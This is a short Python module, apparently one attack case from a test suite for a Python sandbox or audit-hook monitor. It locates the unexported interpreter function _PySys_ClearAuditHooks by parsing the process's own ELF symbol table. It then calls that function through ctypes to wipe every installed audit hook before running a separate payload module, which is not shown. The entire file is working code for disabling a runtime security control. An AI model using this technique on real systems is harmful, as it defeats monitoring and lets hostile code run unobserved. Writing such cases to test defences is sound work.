"""_PySys_ClearAuditHooks is called through ctypes, where that is free."""
CATEGORY = "tampering"
REACH = "net"
POLICIES = "allow"

import ctypes
import os
import struct
import sysconfig

from . import payload


def address(name):
    """Of a function that is not exported: from the symbols of the file."""
    with open("/proc/self/exe", "rb") as file:
        data = file.read()
    start, = struct.unpack_from("<Q", data, 40)
    size, n = struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, start + i * size)
                for i in range(n)]
    program = os.readlink("/proc/self/exe")
    with open("/proc/self/maps") as file:
        base = next(int(line.partition("-")[0], 16) for line in file
                    if line.rstrip().endswith(program))
    if struct.unpack_from("<H", data, 16)[0] == 2:
        base = 0                    # not moved
    for section in sections:
        if section[1] == 2:         # a table of symbols
            texts = sections[section[6]][4]
            for at in range(section[4], section[4] + section[5], 24):
                word, value = struct.unpack_from("<I4xQ", data, at)
                text = data[texts + word:texts + word + len(name) + 1]
                if text == name + b"\0":
                    return base + value


def attack():
    where = address(b"_PySys_ClearAuditHooks")
    # A build with assertions aborts on such a call, whatever is in force.
    if where and "-DNDEBUG" in sysconfig.get_config_var("PY_CFLAGS"):
        clear = ctypes.PYFUNCTYPE(None, ctypes.c_void_p)(where)
        get = ctypes.pythonapi.PyThreadState_Get
        get.restype = ctypes.c_void_p
        clear(get())
        print("cleared")
    payload.act()
